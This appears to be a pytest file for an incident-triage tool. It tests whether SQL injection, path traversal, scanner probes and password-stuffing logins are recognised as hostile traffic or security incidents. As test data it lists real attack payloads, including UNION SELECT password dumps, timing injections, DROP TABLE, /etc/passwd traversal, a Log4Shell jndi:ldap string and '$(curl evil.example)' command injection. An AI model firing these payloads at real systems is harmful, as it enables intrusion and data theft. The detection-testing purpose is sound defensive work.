"""What is an attack and what only looks like one; what a database read is a security incident."""

# ruff: noqa: E501  # a text of an error reads best in one line

from __future__ import annotations

from datetime import timedelta
from typing import Any

import pytest

from sentry_runbook.incident.incident import Incident
from sentry_runbook.incident.model.evidence import Breadcrumb, Event, EventRow, Evidence
from tests.incident.builder import NOW, incident, known, read
from tests.incident.test_causes import event, spiking

PATTERN = "hostile_traffic"


def of(one: Event, **parts: Any) -> Incident:
    """The incident whose main event that is."""
    text = one.exceptions[0].text if one.exceptions else ""
    return read(incident([], event=known(one), issue={"title": text[:100], **parts.pop("issue", {})}, **parts))


def names(one: Incident) -> list[str]:
    return [cause.pattern for cause in one.causes]


REACHED = (
    'ProgrammingError: syntax error at or near "\' OR 1=1 --"',
    "QueryException: SQLSTATE[42000]: Syntax error or access violation: 1064 You have an error in your SQL syntax; check "
    "the manual that corresponds to your MySQL server version for the right syntax to use near '' OR '1'='1' -- ' at line 1",
    'OperationalError: near "\' OR 1=1": syntax error',
    "PSQLException: ERROR: syntax error at or near \"UNION\" Position: 44 [SELECT * FROM item WHERE id = '7' UNION SELECT "
    "username, password FROM users--']",
    "SQLSyntaxErrorException: You have an error in your SQL syntax near 'UNION SELECT NULL,NULL,version()-- -' at line 1",
    "SqlException: Incorrect syntax near 'waitfor delay'. Unclosed quotation mark after '; waitfor delay '0:0:5'--",
    "Mysql2::Error: You have an error in your SQL syntax near 'sleep(5)#' at line 1: SELECT * FROM t WHERE id = 1 AND sleep(5)#",
    "QueryFailedError: ER_PARSE_ERROR: XPATH syntax error: '~root＠localhost~' extractvalue(1,concat(0x7e,user()))",
    "OperationalError: canceling statement due to statement timeout LINE 1: ...id=1; SELECT pg_sleep(10)--",
    "sqlite3.OperationalError: no such function: sleep in SELECT * FROM t WHERE a='' OR sleep(5)",
    "ORA-01756: quoted string not properly terminated: select 1 from dual where a = '' OR 1=1 --'",
    "PG::SyntaxError: ERROR: each UNION query must have the same number of columns: id = 1 UNION SELECT 1,2,3--",
    "ProgrammingError: syntax error at or near \"DROP\" LINE 1: name = 'x'; DROP TABLE users; --'",
)


@pytest.mark.parametrize("text", REACHED)
def test_an_injection_that_the_database_read_is_a_security_incident(text: str) -> None:
    kind, _, value = text.partition(": ")
    one = of(event(kind, value))
    top = one.causes[0]
    assert (top.pattern, one.security_incident) == (PATTERN, True)
    assert "this is a security incident" in top.evidence_for[0]
    for words in (
        "Call security now",
        "do not archive",
        "No public draft before security says so",
        "Keep the evidence",
    ):
        assert words in top.action


ORDINARY = (
    'ProgrammingError: syntax error at or near "WHERE" LINE 1: SELECT id FROM orders WHERE WHERE id = 7',
    'ProgrammingError: syntax error at or near "UNION" LINE 3: FROM orders UNION SELECT id, total FROM archived_orders',
    "QueryException: You have an error in your SQL syntax near 'Brien')' at line 1 (SQL: insert into people values ('O'Brien'))",
    "ProgrammingError: unterminated quoted string at or near \"'O'Brien'\"",
    "OperationalError: near \"Brien\": syntax error",
    'OperationalError: no such column: amount [SQL: SELECT amount FROM orders WHERE 1=1 AND status = ? OR 1=0]',
    "SqlException: Incorrect syntax near the keyword 'ORDER'.",
    "StatementInvalid: PG::UndefinedTable: ERROR: relation \"carts\" does not exist LINE 1: SELECT 'a' AS x, NULL UNION ALL SELECT id FROM carts",
    "ProgrammingError: syntax error at or near \"AND\" LINE 1: WHERE name = 'x' AND 1=1 AND id = 7",
    "QueryFailedError: Table migrations does not exist: SELECT * FROM information_schema.tables",
    "Error: ENOENT: no such file or directory, open '/app/.env'",
    "Error: Cannot find module '../../../lib/money' required from src/a/b/c.ts",
    "FileNotFoundError: [Errno 2] No such file or directory: '/srv/app/../shared/.env'",
    "TypeError: time.sleep(5) took 0 arguments",
)  # fmt: skip


@pytest.mark.parametrize("text", ORDINARY)
def test_an_ordinary_error_of_a_database_or_a_file_is_no_attack(text: str) -> None:
    kind, _, value = text.partition(": ")
    one = of(event(kind, value))
    assert (one.attacks, one.security_incident) == ((), False)


SENT: tuple[dict[str, Any], ...] = (
    {"request_url": "hxxps://shop.example.com/item?id=1%27%20OR%201=1--"},
    {"request_url": "hxxps://shop.example.com/item?id=1+UNION+SELECT+NULL,NULL--"},
    {"request_query": "{\"id\": \"1' OR '1'='1\"}"},
    {"request_data": '{"email": "admin\'-- ", "password": "x"}'},
    {"request_data": '{"q": "1;WAITFOR DELAY \'0:0:5\'--"}'},
    {"request_query": '{"q": "x\' AND 1=1 --"}'},
    {"request_url": "hxxps://shop.example.com/file?name=..%2f..%2f..%2fetc%2fpasswd"},
    {"request_url": "hxxps://shop.example.com/static/%252e%252e/%252e%252e/etc/passwd"},
    {"request_query": '{"x": "${jndi:ldap∶//evil.example/a}"}'},
    {"request_data": '{"name": "{ {7*7}}"}'},
    {"request_data": '{"host": "8.8.8.8; cat /etc/passwd"}'},
    {"request_query": '{"host": "$(curl evil.example)"}'},
    {"request_url": "hxxps://shop.example.com/a?file=php∶//filter/convert.base64-encode/resource=index"},
    {"request_data": '{"t": "T(java.lang.Runtime).getRuntime().exec(1)"}'},
)


@pytest.mark.parametrize("sent", SENT)
def test_an_injection_in_what_was_sent_is_hostile_and_no_security_incident_alone(sent: dict[str, Any]) -> None:
    one = of(event("ValueError", "bad input", **sent))
    top = one.causes[0]
    assert (top.pattern, top.confidence, one.security_incident) == (PATTERN, "medium", False)
    assert "do not archive" in top.action and "block the senders at the edge" in top.action


HARMLESS: tuple[dict[str, Any], ...] = (
    {"request_data": '{"name": "O\'Brien or O\'Neil"}'},
    {"request_data": '{"title": "Select a union of the two; drop table tennis"}'},
    {"request_url": "hxxps://shop.example.com/docs/../img/a.png"},
    {"request_url": "hxxps://shop.example.com/a?x=1&id"},
    {"request_query": '{"q": "cats and dogs 1=1?"}'},
    {"request_query": '{"next": "/account?a=1&id=7;jsessionid=1"}'},
    {"request_data": '{"header": "sku;name;id"}'},
    {"request_data": '{"template": "Hello {{ name }} in ${city}"}'},
    {"request_data": '{"note": "sleep (8 hours) or rest"}'},
    {"transaction": "GET /environments/{id}"},
)


@pytest.mark.parametrize("sent", HARMLESS)
def test_what_people_send_is_no_injection(sent: dict[str, Any]) -> None:
    assert of(event("ValueError", "bad input", **sent)).attacks == ()


SYNTAX = ("ProgrammingError", 'syntax error at or near "x"')
QUERY: dict[str, Any] = {"request_query": "{\"id\": \"1' OR '1'='1\"}"}


def test_a_statement_that_cannot_be_parsed_beside_a_request_with_an_injection_was_reached() -> None:
    one = of(event(*SYNTAX, **QUERY))
    assert one.security_incident
    assert "The request carries it" in one.causes[0].evidence_for[0]


@pytest.mark.parametrize(
    ("statement", "reached"),
    [("SELECT * FROM item WHERE id = '1' OR '1'='1'", True), ("SELECT * FROM item WHERE id = %s", False)],
)
def test_a_statement_that_ran_with_the_injection_was_reached(statement: str, reached: bool) -> None:
    one = of(event("KeyError", "'id'", crumbs=(Breadcrumb(category="query", message=statement),), **QUERY))
    assert (names(one)[0], one.security_incident) == (PATTERN, reached)


@pytest.mark.parametrize(
    "text",
    [
        "invalid input syntax for type integer: \"1' OR '1'='1\"",
        'syntax error at or near "ORDRE" [SQL: SELECT a FROM t WHERE q = %(q)s ORDRE BY a] [parameters: {\'q\': "\' OR 1=1 --"}]',
    ],
)
def test_what_was_bound_or_refused_for_its_form_never_became_sql(text: str) -> None:
    one = of(event("DataError", text))
    assert not one.security_incident


# --- scans and logins ----------------------------------------------------------------------------------------------


def rows(paths: list[str], addresses: int, users: int = 0, title: str = "NotFound") -> Any:
    """Event rows that ask for these paths in turn, from some addresses."""
    return known(
        tuple(
            EventRow(
                id=f"{number:032x}",
                when=NOW - timedelta(minutes=number),
                transaction=path,
                title=title,
                release="shop@1.0.0",
                environment="production",
                user=f"user-{number % users}" if users else None,
                ip=f"<ip {number % addresses}>" if addresses else None,
            )
            for number, path in enumerate(paths)
        )
    )


def missing(path: str, **fields: Any) -> Event:
    return event("NotFoundHttpException", f'No route found for "GET {path}"', transaction=path, **fields)


@pytest.mark.parametrize("path", ["/wp-login.php", "/.env", "/phpmyadmin/index.php", "/.git/config", "/cgi-bin/luci"])
def test_an_address_that_only_scanners_ask_for_is_a_scan(path: str) -> None:
    one = of(missing(path))
    assert (one.causes[0].pattern, one.causes[0].confidence, one.security_incident) == (PATTERN, "low", False)


def test_several_such_addresses_from_one_sender_are_a_scan_with_high_confidence() -> None:
    paths = ["/wp-login.php", "/.env", "/phpmyadmin/", "/.git/config"] * 5
    top = of(missing("/.env"), rows=rows(paths, 1)).causes[0]
    assert (top.pattern, top.confidence) == (PATTERN, "high")
    assert "one of 4 such addresses" in top.evidence_for[0]
    assert top.evidence_for[1] == "All 20 events with an address came from one address."


def test_a_site_that_runs_on_wordpress_has_its_login_itself() -> None:
    assert of(missing("/wp-login.php"), issue={"platform": "php"}).attacks == ()
    assert of(missing("/.env"), issue={"platform": "php"}).attacks != ()


@pytest.mark.parametrize(("paths", "addresses", "scan"), [(10, 3, True), (9, 3, False), (30, 4, False), (30, 0, False)])
def test_many_addresses_that_are_not_there_from_few_senders_are_a_scan(paths: int, addresses: int, scan: bool) -> None:
    asked = [f"/a{number}" for number in range(paths)] * 3
    one = of(missing("/a1"), rows=rows(asked, addresses))
    assert (one.attacks != ()) is scan


REFUSED = event("BadCredentialsException", "Bad credentials", transaction="POST /login")


@pytest.mark.parametrize(
    ("count", "users", "addresses", "tried"),
    [
        (20, 10, 2, True),
        (19, 10, 2, False),
        (40, 9, 1, False),
        (40, 20, 5, False),
        (40, 20, 4, True),
        (40, 20, 0, False),
    ],
)
def test_many_refused_logins_of_many_users_from_few_addresses_are_stolen_passwords(
    count: int, users: int, addresses: int, tried: bool
) -> None:
    one = of(REFUSED, rows=rows(["POST /login"] * count, addresses, users))
    assert (names(one)[:1] == [PATTERN]) is tried
    if tried:
        assert "passwords are being tried" in one.causes[0].action


def test_a_database_that_refuses_our_own_password_is_no_login() -> None:
    one = of(
        event("OperationalError", 'password authentication failed for user "shop"', transaction="POST /login"),
        rows=rows(["POST /login"] * 40, 1, 20),
    )
    assert one.attacks == ()


def test_hostile_requests_weaken_what_they_seem_to_show() -> None:
    broken = event("ValidationError", "invalid payload", request_query="{\"id\": \"1' OR '1'='1\"}")
    found = {cause.pattern: cause for cause in read(spiking(broken)).causes}
    assert next(iter(found)) == PATTERN
    data = found.get("data_corruption")
    assert data is None or "The requests are hostile" in " ".join(data.evidence_against)


def test_an_issue_that_is_no_error_shows_no_attack() -> None:
    evidence: Evidence = incident([], event=known(missing("/.env")), issue={"category": "performance"})
    assert read(evidence).attacks == ()
